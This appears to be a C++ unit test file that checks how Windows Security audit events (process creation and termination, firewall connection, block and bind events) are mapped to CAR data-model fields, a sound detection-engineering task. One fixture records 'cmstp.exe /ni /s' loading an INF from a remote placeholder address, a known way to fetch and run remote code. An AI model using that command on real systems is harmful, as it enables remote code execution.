// Security auditing -> CAR mapping. Field names, value forms and their
// meaning are those Windows writes (4688 versions 0-2 with hexadecimal ids;
// Filtering Platform events with Source* = this host's end and Direction
// %%14592 inbound / %%14593 outbound); the CAR names are those of
// shared/car/data_model and docs/data-model.md.
#include "security_test_support.hpp"

using namespace evtxcar;
using namespace evtxcar::test;

namespace {

std::vector<payload_field> connection(std::string direction, std::string local, std::string local_port,
                                      std::string remote, std::string remote_port, std::string protocol = "6") {
    return {{"ProcessID", "6700"},
            {"Application", "\\device\\harddiskvolume2\\windows\\system32\\cmstp.exe"},
            {"Direction", std::move(direction)},
            {"SourceAddress", std::move(local)},
            {"SourcePort", std::move(local_port)},
            {"DestAddress", std::move(remote)},
            {"DestPort", std::move(remote_port)},
            {"Protocol", std::move(protocol)},
            {"FilterRTID", "70183"},
            {"LayerName", "%%14611"},
            {"LayerRTID", "48"}};
}

}  // namespace

TEST_CASE("4688 version 2 becomes process/create: decimal ids, parent, target account, integrity", "[car][security]") {
    const auto out = normalize(security_record(
        4688, with(subject_system, {{"NewProcessId", "0x1a2c"},
                                    {"NewProcessName", "C:\\Windows\\System32\\cmstp.exe"},
                                    {"TokenElevationType", "%%1938"},
                                    {"ProcessId", "0x11fc"},
                                    {"CommandLine", "cmstp.exe /ni /s https://203.0.113.7/x.inf"},
                                    {"TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104"},
                                    {"TargetUserName", "jdoe"},
                                    {"TargetDomainName", "CORP"},
                                    {"TargetLogonId", "0x4b1c33"},
                                    {"ParentProcessName", "C:\\Windows\\explorer.exe"},
                                    {"MandatoryLabel", "S-1-16-8192"}})));
    REQUIRE(out.mapped);
    CHECK(out.problem.empty());
    CHECK(out.event.object == "process");
    CHECK(out.event.action == "create");
    CHECK(out.fields.at("pid") == "6700");   // 0x1a2c
    CHECK(out.fields.at("ppid") == "4604");  // 0x11fc
    CHECK(out.fields.at("image_path") == "C:\\Windows\\System32\\cmstp.exe");
    CHECK(out.fields.at("exe") == "cmstp.exe");
    CHECK(out.fields.at("command_line") == "cmstp.exe /ni /s https://203.0.113.7/x.inf");
    CHECK(out.fields.at("parent_image_path") == "C:\\Windows\\explorer.exe");
    CHECK(out.fields.at("parent_exe") == "explorer.exe");
    // The new process runs as the Target account, not as its creator.
    CHECK(out.fields.at("user") == "CORP\\jdoe");
    CHECK(out.fields.at("sid") == "S-1-5-21-1004336348-1177238915-682003330-1104");
    CHECK(out.fields.at("logon_id") == "0x4b1c33");
    CHECK(out.fields.at("integrity_level") == "Medium");
    CHECK(out.fields.at("hostname") == "WS05");
    CHECK(out.fields.at("fqdn") == "WS05.corp.example.com");
    CHECK(out.event.record_id == 77);
    CHECK(out.event.event_id == 4688);
    CHECK(out.event.channel == "Security");
    CHECK(out.fields.count("guid") == 0);  // Security events have no ProcessGuid
}

TEST_CASE("4688 with the NULL SID target runs as its subject; version 0 has no command line", "[car][security]") {
    const auto v2 = normalize(security_record(
        4688, with(subject_system, {{"NewProcessId", "0x10ffc"},
                                    {"NewProcessName", "C:\\Windows\\System32\\svchost.exe"},
                                    {"TokenElevationType", "%%1936"},
                                    {"ProcessId", "0x2f0"},
                                    {"CommandLine", ""},
                                    {"TargetUserSid", "S-1-0-0"},
                                    {"TargetUserName", "-"},
                                    {"TargetDomainName", "-"},
                                    {"TargetLogonId", "0x0"},
                                    {"ParentProcessName", "C:\\Windows\\System32\\services.exe"},
                                    {"MandatoryLabel", "S-1-16-16384"}})));
    CHECK(v2.problem.empty());
    CHECK(v2.fields.at("pid") == "69628");  // 0x10ffc: above 0xFFFF
    CHECK(v2.fields.at("ppid") == "752");
    CHECK(v2.fields.at("user") == "CORP\\WS05$");
    CHECK(v2.fields.at("sid") == "S-1-5-18");
    CHECK(v2.fields.at("logon_id") == "0x3e7");
    CHECK(v2.fields.at("integrity_level") == "System");
    CHECK(v2.fields.count("command_line") == 0);  // auditing of command lines off: logged empty

    const auto v0 = normalize(security_record(
        4688, with(subject_system, {{"NewProcessId", "0x5c8"},
                                    {"NewProcessName", "C:\\Windows\\System32\\cmd.exe"},
                                    {"TokenElevationType", "%%1936"},
                                    {"ProcessId", "0x4d0"}})));
    CHECK(v0.mapped);
    CHECK(v0.fields.at("pid") == "1480");
    CHECK(v0.fields.at("ppid") == "1232");
    CHECK(v0.fields.count("command_line") == 0);
    CHECK(v0.fields.count("parent_image_path") == 0);
    CHECK(v0.fields.count("integrity_level") == 0);
}

TEST_CASE("a process id that is not a number is kept as logged and reported", "[car][security]") {
    const auto out = normalize(security_record(
        4688, with(subject_system, {{"NewProcessId", "0xZZ"}, {"NewProcessName", "C:\\x.exe"}, {"ProcessId", "0x4"}})));
    CHECK(out.mapped);
    CHECK(out.fields.at("pid") == "0xZZ");
    CHECK(out.fields.at("ppid") == "4");
    CHECK(out.problem.find("NewProcessId") != std::string::npos);
}

TEST_CASE("4689 becomes process/terminate", "[car][security]") {
    const auto out = normalize(security_record(
        4689, with(subject_system, {{"Status", "0x0"}, {"ProcessId", "0x1a2c"},
                                    {"ProcessName", "C:\\Windows\\System32\\cmstp.exe"}})));
    REQUIRE(out.mapped);
    CHECK(out.event.object == "process");
    CHECK(out.event.action == "terminate");
    CHECK(out.fields.at("pid") == "6700");
    CHECK(out.fields.at("exe") == "cmstp.exe");
    CHECK(out.fields.at("user") == "CORP\\WS05$");
}

TEST_CASE("5156 outbound: src is this host, dest the remote end", "[car][security]") {
    const auto out = normalize(security_record(5156, connection("%%14593", "10.20.0.15", "49811", "203.0.113.7", "443")));
    REQUIRE(out.mapped);
    CHECK(out.problem.empty());
    CHECK(out.event.object == "flow");
    CHECK(out.event.action == "start");
    CHECK(out.fields.at("pid") == "6700");
    CHECK(out.fields.at("image_path") == "\\device\\harddiskvolume2\\windows\\system32\\cmstp.exe");  // as logged
    CHECK(out.fields.at("exe") == "cmstp.exe");
    CHECK(out.fields.at("network_direction") == "outbound");
    CHECK(out.fields.at("src_ip") == "10.20.0.15");
    CHECK(out.fields.at("src_port") == "49811");
    CHECK(out.fields.at("dest_ip") == "203.0.113.7");
    CHECK(out.fields.at("dest_port") == "443");
    CHECK(out.fields.at("transport_protocol") == "TCP");
}

TEST_CASE("5156 inbound: the remote initiator becomes src", "[car][security]") {
    const auto out = normalize(security_record(5156, connection("%%14592", "10.20.0.15", "3389", "198.51.100.23", "51234")));
    CHECK(out.fields.at("network_direction") == "inbound");
    CHECK(out.fields.at("src_ip") == "198.51.100.23");
    CHECK(out.fields.at("src_port") == "51234");
    CHECK(out.fields.at("dest_ip") == "10.20.0.15");
    CHECK(out.fields.at("dest_port") == "3389");

    const auto v6 = normalize(security_record(5156, connection("%%14592", "fe80::1c2d:3e4f:5a6b:7c8d", "5355",
                                                              "fe80::aa:bbff:fecc:dd", "61000", "17")));
    CHECK(v6.fields.at("src_ip") == "fe80::aa:bbff:fecc:dd");
    CHECK(v6.fields.at("dest_ip") == "fe80::1c2d:3e4f:5a6b:7c8d");
    CHECK(v6.fields.at("transport_protocol") == "UDP");
}

TEST_CASE("5157 is a blocked flow, 5158 a socket bind", "[car][security]") {
    const auto blocked = normalize(security_record(5157, connection("%%14593", "::1", "50000", "::1", "8080", "58")));
    CHECK(blocked.event.object == "flow");
    CHECK(blocked.event.action == "block");
    CHECK(blocked.fields.at("transport_protocol") == "ICMPV6");

    const auto bind = normalize(security_record(
        5158, {{"ProcessId", "6700"},
               {"Application", "\\device\\harddiskvolume2\\windows\\system32\\cmstp.exe"},
               {"SourceAddress", "0.0.0.0"},
               {"SourcePort", "50123"},
               {"Protocol", "6"},
               {"FilterRTID", "0"},
               {"LayerName", "%%14608"},
               {"LayerRTID", "36"}}));
    REQUIRE(bind.mapped);
    CHECK(bind.event.object == "socket");
    CHECK(bind.event.action == "bind");
    CHECK(bind.fields.at("pid") == "6700");
    CHECK(bind.fields.at("local_address") == "0.0.0.0");
    CHECK(bind.fields.at("local_port") == "50123");
    CHECK(bind.fields.at("protocol") == "TCP");
    CHECK(bind.fields.count("src_ip") == 0);
}

TEST_CASE("an unknown direction keeps the logged ends and is reported", "[car][security]") {
    const auto out = normalize(security_record(5156, connection("%%99999", "10.20.0.15", "1", "203.0.113.7", "2", "200")));
    CHECK(out.fields.at("src_ip") == "10.20.0.15");
    CHECK(out.fields.at("dest_ip") == "203.0.113.7");
    CHECK(out.fields.count("network_direction") == 0);
    CHECK(out.fields.at("transport_protocol") == "200");  // a number with no name stays a number
    CHECK(out.problem.find("Direction") != std::string::npos);
}

TEST_CASE("other Security events and records without EventData are not normalized", "[car][security]") {
    CHECK_FALSE(normalize(security_record(4672, with(subject_system, {{"PrivilegeList", "SeDebugPrivilege"}}))).mapped);
    event_record no_payload = security_record(4688, {});
    no_payload.kind = payload_kind::none;
    CHECK_FALSE(normalize(no_payload).mapped);
}
